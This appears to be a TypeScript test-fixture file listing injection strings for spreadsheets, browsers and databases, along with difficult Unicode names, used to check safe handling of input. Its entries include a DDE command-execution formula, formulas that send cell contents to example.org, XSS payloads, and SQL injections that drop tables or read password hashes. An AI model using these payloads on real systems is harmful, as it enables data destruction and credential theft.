/** Texts that other programs take for something else than text. Each must come back as it was written, or be refused. */

/** Spreadsheets: formulas, their full-width forms, DDE, and what some programs drop from the front. */
export const FORMULAS = [
	'=1+1',
	'+1+1',
	'-1+1',
	'@SUM(A1:A9)',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'\u0000=1+1',
	'\uFEFF=1+1',
	'＝1+1',
	'＋1',
	'－1',
	'＠SUM(1)',
	"'=1+1",
	"''=1+1",
	"=cmd|'/C calc'!A0",
	'DDE("cmd";"/C calc";"x")',
	'=HYPERLINK("http://example.org?x="&A1,"click")',
	'=IMPORTXML(CONCAT("http://example.org?v=",A1),"//a")',
	'",=1+1,"',
	'a";=1+1;"',
	'two\r\nlines,"and" quotes;',
	'-5',
	'0042'
] as const;

/** Browsers: markup, attributes, addresses that are scripts, templates. */
export const MARKUP = [
	'<img src=x onerror="window.trapped=1">',
	'<script>window.trapped=1</script>',
	'"><svg/onload=window.trapped=1>',
	"' onmouseover='window.trapped=1",
	'javascript:window.trapped=1',
	'</textarea><script>window.trapped=1</script>',
	'</title><img src=x onerror=window.trapped=1>',
	'<!--<img src="--><img src=x onerror=window.trapped=1//">',
	'{{constructor.constructor("window.trapped=1")()}}',
	'${window.trapped=1}',
	'<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.trapped=1 src>">',
	'&lt;script&gt;window.trapped=1&lt;/script&gt;'
] as const;

/** Databases: ends of strings, comments, unions, delays, orders, wildcards, what a driver might unescape. */
export const QUERIES = [
	"'",
	'"',
	'`',
	'\\',
	"' OR '1'='1",
	"' OR 1=1 -- ",
	'" OR ""="',
	"') OR ('1'='1",
	"'; DROP TABLE employee; -- ",
	"' UNION SELECT name, name, name FROM employee -- ",
	'1 OR SLEEP(2)',
	"' AND SLEEP(2) -- ",
	'1; SELECT 1',
	'name; DROP TABLE employee',
	'name DESC, (SELECT SLEEP(2))',
	'-name',
	'(SELECT password_hash FROM app_user LIMIT 1)',
	'%',
	'_',
	"\\' OR 1=1 -- ",
	'\u0000',
	'\ud800',
	'\u02bc OR 1=1',
	'/*!50000 OR 1=1*/',
	'{"$gt":""}',
	'[object Object]',
	'9'.repeat(400),
	"x' AND EXTRACTVALUE(1, CONCAT(0x7e, VERSION())) -- "
] as const;

/** Names of people, and what looks like one: from the right, joined, beyond the first plane, composed and not. */
export const NAMES = [
	'Ñuñez, José-María d’Ávila',
	'N\u0303un\u0303ez',
	'محمد عبد الله',
	'שרה כהן',
	'\u202eevil\u202c name',
	'👩‍👩‍👧‍👦 Family',
	'𠮷野家',
	'𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
	'क्षत्रिय',
	'ᜊᜌ᜔ᜊᜌᜒᜈ᜔',
	'Z͑ͫ̓̽a̴̵l̡g̢o',
	'O\'Brien; "the" <boss> & co.',
	'Li',
	'İstanbul ıI'
] as const;
